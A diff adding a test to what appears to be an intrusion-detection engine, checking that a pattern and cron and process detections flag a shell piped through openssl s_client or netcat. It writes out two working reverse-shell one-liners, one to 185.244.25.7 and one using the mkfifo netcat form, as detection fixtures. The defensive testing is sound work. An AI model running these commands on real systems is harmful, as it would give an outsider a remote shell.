@@ -207,3 +207,27 @@ test("behaviours added from corpus misses: planted positive and benign twin", as
   // Benign twin: the ubuntu account's own key generated on its instance, and a person's laptop key.
   t.same(findings(run("ssh-authorized-key", host({ authorized_keys: [k("1000", "ubuntu@ip-10-0-3-7", "/home/ubuntu/.ssh/authorized_keys"), k("1002", "fmoreau@laptop", "/home/fmoreau/.ssh/authorized_keys")], users }))), [], "own keys");
 });
+
+test("a shell piped through openssl s_client or netcat: a strong cron signal, and a reverse shell at the process that runs it", async (t) => {
+  const { SHELL_THROUGH_NETWORK } = await import("../../shared/engine/detections/patterns.js");
+  const line = "openssl s_client -quiet -connect 185.244.25.7:993 2>/dev/null | /bin/bash 2>&1 | openssl s_client -quiet -connect 185.244.25.7:995";
+  t.ok(SHELL_THROUGH_NETWORK.test(line), "openssl both ways");
+  t.ok(SHELL_THROUGH_NETWORK.test("rm /tmp/f; mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | nc 203.0.113.4 4444 > /tmp/f"), "the mkfifo netcat form");
+  t.notOk(SHELL_THROUGH_NETWORK.test("echo | openssl s_client -connect mail.example.com:993 2>/dev/null | openssl x509 -noout -enddate"), "a certificate expiry check");
+  t.notOk(SHELL_THROUGH_NETWORK.test("tar c /srv | nc backup 9000"), "a stream to a backup host, no shell");
+  const cron = run("suspicious-cron", host({ crontab: [{ minute: "*/10", hour: "*", day_of_month: "*", month: "*", day_of_week: "*", command: line, path: "/var/spool/cron/crontabs/root" }] }));
+  t.equal(findings(cron)[0]?.severity, "high");
+  t.match(findings(cron)[0]?.summary, /pipes a shell through a network tool/);
+  const live = run("reverse-shell", host({
+    processes: [
+      proc(40, "sh", "/bin/sh", `/bin/sh -c ${line}`, { parent: "1" }),
+      proc(41, "openssl", "/usr/bin/openssl", "openssl s_client -quiet -connect 185.244.25.7:993", { parent: "40" }),
+      proc(42, "bash", "/bin/bash", "/bin/bash", { parent: "40" }),
+      proc(43, "openssl", "/usr/bin/openssl", "openssl s_client -quiet -connect 185.244.25.7:995", { parent: "40" }),
+    ],
+    process_open_sockets: [sock(41, "185.244.25.7", 993), sock(43, "185.244.25.7", 995)],
+  }));
+  t.equal(findings(live).length, 1, "one finding for the pipeline");
+  t.match(findings(live)[0]?.summary, /pid 40.*pipes a shell through a network tool.*185\.244\.25\.7:99[35]/);
+  t.equal(findings(live)[0]?.severity, undefined, "the detection's own severity: high");
+});
